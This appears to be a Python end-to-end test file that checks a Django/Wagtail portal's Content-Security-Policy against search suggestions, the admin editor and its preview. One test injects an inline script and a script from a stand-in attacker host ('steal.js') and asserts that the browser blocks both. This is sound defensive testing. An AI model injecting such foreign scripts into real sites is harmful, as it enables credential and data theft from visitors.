"""Under the Content-Security-Policy the search page's suggestions and the Wagtail editor still work (issue 12).

Chromium enforces the policy the portal sends; every violation it reports is collected from the
`securitypolicyviolation` event (listened to before any page script runs) and from the console.
"""

import re

import pytest
from django.test import Client

from cms.models import StandardPage
from demo.pages import seed_site_pages
from search.services import search_index_rebuild
from tests.factories import OrganisationFactory, UserFactory
from tests.mfa import enable_totp

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

RECORD_VIOLATIONS = """
window.cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.cspViolations.push(`${event.effectiveDirective} refused ${event.blockedURI} in ${event.sourceFile}`);
});
"""


@pytest.fixture
def violations(page):
    """Return a function giving every violation the browser reported on the current page so far."""
    console = []
    page.add_init_script(RECORD_VIOLATIONS)
    page.on(
        "console", lambda message: console.append(message.text) if "Content Security Policy" in message.text else None
    )
    return lambda: [*page.evaluate("window.cspViolations"), *console]


@pytest.fixture
def site_pages(wagtail_root):
    """The demo site's home and standard pages, as `make run` has them."""
    seed_site_pages()


@pytest.fixture
def university(site_pages):
    university = OrganisationFactory(name="Đại học Thủ Dầu Một", slug="dai-hoc-thu-dau-mot", kind="university")
    search_index_rebuild()
    return university


def test_search_suggestions_work_under_the_policy(university, page, live_server, violations):
    response = page.goto(f"{live_server.url}/search/")
    header = response.headers["content-security-policy"]
    assert dict(directive.strip().split(" ", 1) for directive in header.split(";"))["script-src"] == "'self'"

    box = page.locator("#search-q")
    box.press_sequentially("dai hoc", delay=30)
    suggestion = page.get_by_role("option", name=re.compile("Đại học Thủ Dầu Một"))
    suggestion.wait_for()
    assert box.get_attribute("aria-expanded") == "true"
    box.press("ArrowDown")
    assert suggestion.get_attribute("aria-selected") == "true"
    box.press("Enter")
    page.wait_for_url(re.compile(f"{university.get_absolute_url()}$"))

    assert violations() == []


def test_the_browser_refuses_a_script_injected_into_a_public_page(university, page, live_server, violations):
    page.goto(f"{live_server.url}/search/")

    page.evaluate(
        """() => {
          const inline = document.createElement("script");
          inline.textContent = "window.injected = true";
          const foreign = document.createElement("script");
          foreign.src = "https://attacker.example/steal.js";
          document.body.append(inline, foreign);
        }"""
    )

    assert page.evaluate("window.injected") is None
    refused = " ".join(violations())
    assert "script-src-elem refused inline" in refused
    assert "attacker.example" in refused


def test_the_editor_works_and_previews_under_the_admin_policy(site_pages, page, live_server, violations):
    officer = UserFactory(is_staff=True, is_superuser=True)
    enable_totp(officer)
    client = Client()
    client.force_login(officer)
    page.context.add_cookies(
        [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_server.url}]
    )

    # Programs' date fields are initialised by the inline scripts Wagtail writes beside each widget.
    page.goto(f"{live_server.url}/admin/snippets/ecosystem/program/add/")
    opens_at = page.locator("input[name=opens_at]")
    tab_panel = opens_at.evaluate("input => input.closest('[role=tabpanel]').id")
    page.locator(f"[role=tab][aria-controls='{tab_panel}']").click()
    opens_at.click()
    page.locator(".xdsoft_datetimepicker:visible").first.wait_for()

    standard = StandardPage.objects.filter(locale__language_code="vi").first()
    page.goto(f"{live_server.url}/admin/pages/{standard.pk}/edit/")
    page.locator("[data-side-panel-toggle='preview']").click()
    preview = page.frame_locator("iframe#w-preview-iframe")
    preview.get_by_role("heading", name=standard.title).wait_for()

    assert violations() == []
    # The preview panel keeps posting the form in the background; one still writing the session
    # when the test database is flushed deadlocks the flush (seen once on a loaded machine).
    page.wait_for_load_state("networkidle")
    page.goto("about:blank")
